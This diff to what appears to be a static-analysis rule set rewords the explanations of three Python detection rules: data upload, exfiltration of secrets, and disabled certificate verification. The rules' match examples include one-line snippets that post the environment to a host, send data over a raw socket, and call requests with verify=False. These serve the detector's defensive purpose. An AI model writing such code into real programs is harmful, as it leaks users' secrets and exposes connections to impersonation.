@@ -21,8 +21,8 @@ UPLOAD = python_rule(
     "exfil_upload",
     Level.MEDIUM,
     attack="Carries data out of the machine.",
-    why="MEDIUM: forms are posted too; HIGH where what is sent is private.",
-    fix="Ask for the domain as a capability and say what is sent.",
+    why="MEDIUM: forms are posted too; HIGH where the data is private.",
+    fix="Request the domain as a permission, and state what is sent.",
     match=(
         "import requests\nrequests.post('https://a.example', data=d)",
         "import socket\ns = socket.socket()\ns.sendall(x)",
@@ -36,8 +36,8 @@ EXFILTRATION = python_rule(
     "Private data leaves the machine",
     "exfil_upload",
     Level.CRITICAL,
-    attack="Sends secrets, the environment, files or facts about the machine to somebody.",
-    why="CRITICAL: private data and the network meet; HIGH for files and facts about the machine.",
+    attack="Sends secrets, the environment, files or facts about the machine to an attacker.",
+    why=("CRITICAL: private data is sent over the network; HIGH for files and facts about the machine."),
     fix="Remove it.",
     match=(
         "import os, requests\nrequests.post(u, data=dict(os.environ))",
@@ -54,11 +54,11 @@ EXFILTRATION = python_rule(
 )
 INSECURE_TLS = python_rule(
     "py-insecure-transport",
-    "The other side's certificate is not checked",
+    "The server's certificate is not checked",
     "vuln_lint",
     Level.MEDIUM,
-    attack="Lets anyone between here and there answer.",
-    why="MEDIUM: needs somebody on the way.",
+    attack="Lets anyone on the network path impersonate the server.",
+    why="MEDIUM: needs an attacker on the network path.",
     fix="Remove `verify=False`.",
     match=("import requests\nrequests.get(u, verify=False)", "import ssl\nssl._create_unverified_context()"),
     not_match=("import requests\nrequests.get(u, verify=True)",),
